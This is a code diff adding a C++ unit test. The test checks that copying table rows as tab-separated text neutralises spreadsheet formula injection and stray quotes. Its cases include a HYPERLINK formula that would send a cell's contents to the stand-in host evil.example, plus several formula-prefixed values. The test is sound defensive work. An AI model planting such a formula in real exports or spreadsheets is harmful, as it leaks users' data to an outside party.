@@ -41,3 +41,23 @@ TEST_CASE("a copied row is one line") {
   CHECK(copy_row_tsv(view_of(j)).find('\n') == std::string::npos);
   CHECK(copy_cell(view_of(j), Column::Created) == "2026-11-18T11:06:39.000Z");
 }
+
+TEST_CASE("copied rows paste as rows: no formula runs, and a quote swallows nothing") {
+  // From /work/shared/cases/tsv.json.
+  const std::pair<const char*, const char*> kCells[] = {{"\"Q3 plan", "\"\"\"Q3 plan\""},
+                                                       {"payroll", "payroll"},
+                                                       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""},
+                                                       {"-5+3", "'-5+3"},
+                                                       {"＝1+1", "'＝1+1"}};
+  for (const auto& [name, cell] : kCells) {
+    Job j = TableFixture::job(1);
+    j.collection_name = name;
+    CHECK(copy_row_tsv(view_of(j)).find("\t" + std::string(cell) + "\t") != std::string::npos);
+    CHECK(copy_cell(view_of(j), Column::Collection) == name);  // one value, for a search or a ticket
+  }
+  Job j = TableFixture::job(1);
+  j.id = "=1+1";
+  j.last_sync_error = "@SUM(A1)";
+  CHECK(copy_row_tsv(view_of(j)).starts_with("'=1+1\t"));
+  CHECK(copy_row_tsv(view_of(j)).ends_with("\t'@SUM(A1)"));
+}
